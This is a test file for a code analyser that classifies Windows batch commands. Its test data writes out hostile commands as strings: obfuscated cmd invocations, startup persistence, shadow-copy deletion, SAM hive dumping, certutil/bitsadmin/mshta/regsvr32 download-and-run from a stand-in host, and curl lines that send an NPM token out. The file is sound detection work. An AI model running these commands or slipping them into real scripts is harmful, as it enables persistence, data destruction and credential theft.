import { beforeAll, describe, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
  type ExpectedCapability,
  type ExpectedFlow,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const RUNS: [string, string, ExpectedCapability][] = [
  ["a caret hides nothing", "c^m^d /c i^d", { capability: "execute.process", target: "id" }],
  ["commas and semicolons before a command", ",;,cmd,/c,id", { capability: "execute.process" }],
  ["a line that goes on", "cmd /c ^\n  id", { capability: "execute.process", target: "id" }],
  ["a command in any case", "CMD.EXE /C id", { capability: "execute.process", target: "id" }],
  [
    "a redirect before its command",
    `>>"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat" echo id`,
    { capability: "write.startup" },
  ],
  [
    "a key that starts programs",
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "C:\\x.exe" /f`,
    { capability: "write.startup" },
  ],
  ["a task", `schtasks /create /tn x /sc onlogon /tr "C:\\x.exe"`, { capability: "write.startup" }],
  ["copies of old states", "vssadmin delete shadows /all /quiet", { capability: "destroy.files" }],
  ["the accounts of the system", "reg save HKLM\\SAM C:\\s", { capability: "read.credential" }],
  [
    "code that is written and then run by the script host",
    `echo CreateObject("WScript.Shell").Run "id" > x.vbs\ncscript //nologo x.vbs`,
    { capability: "execute.process", target: "x.vbs" },
  ],
  [
    "a library that is loaded",
    "rundll32 x.dll,Run",
    { capability: "execute.process", target: "x.dll" },
  ],
];

const FLOWS: [string, string, ExpectedFlow][] = [
  [
    "a download by the certificate tool",
    `certutil -urlcache -split -f https://h.example/x.exe %TEMP%\\x.exe\nstart "" /b %TEMP%\\x.exe`,
    { from: "network.receive", to: "execute.code" },
  ],
  [
    "a download by the transfer service",
    `bitsadmin /transfer j /download /priority high https://h.example/x.exe C:\\x.exe\nC:\\x.exe`,
    { from: "network.receive", to: "execute.code" },
  ],
  [
    "an address that the HTML host runs",
    "mshta https://h.example/x.hta",
    { from: "network.receive", to: "execute.code" },
  ],
  [
    "an address that a script component comes from",
    "regsvr32 /s /n /u /i:https://h.example/x.sct scrobj.dll",
    { from: "network.receive", to: "execute.code" },
  ],
  [
    "a secret in a file that is sent in a block",
    "(\n  echo %NPM_TOKEN%\n  whoami\n) > o.txt\ncurl -T o.txt https://h.example",
    { from: "read.credential", to: "network.send", source: "NPM_TOKEN" },
  ],
  [
    "the output of a command in a loop",
    `for /f "tokens=2 delims==" %%a in ('set NPM_TOKEN') do curl -d %%a https://h.example`,
    { from: "read.credential", to: "network.send", source: "NPM_TOKEN" },
  ],
];

describe("what Windows commands do is understood", () => {
  test.each(RUNS)("%s", (_, text, expected) => {
    const facts = factsOf("batch", text, context);
    expect(
      facts.some((fact) => isCapability(fact, expected)),
      described(facts).join("\n"),
    ).toBe(true);
  });

  test.each(FLOWS)("%s", (_, text, expected) => {
    const facts = factsOf("batch", text, context);
    expect(
      facts.some((fact) => isFlow(fact, expected)),
      described(facts).join("\n"),
    ).toBe(true);
  });
});

test("text that only looks like commands is none", () => {
  const text = `rem cmd /c id\n:: cmd /c id\necho cmd /c id\nset x=cmd /c id\necho a ^& cmd /c id\necho "a & cmd /c id"`;
  const facts = factsOf("batch", text, context);
  expect(facts.filter((fact) => isCapability(fact, { capability: "execute.process" }))).toEqual([]);
});

test("facts stand on the lines of their commands", () => {
  const text = `@echo off\r\nrem x\r\nif exist a (\r\n  cmd /c id\r\n)\r\n`;
  const lines = factsOf("batch", text, context)
    .filter((fact) => isCapability(fact, { capability: "execute.process" }))
    .map((fact) => fact.at.line);
  expect(lines).toEqual([4]);
});
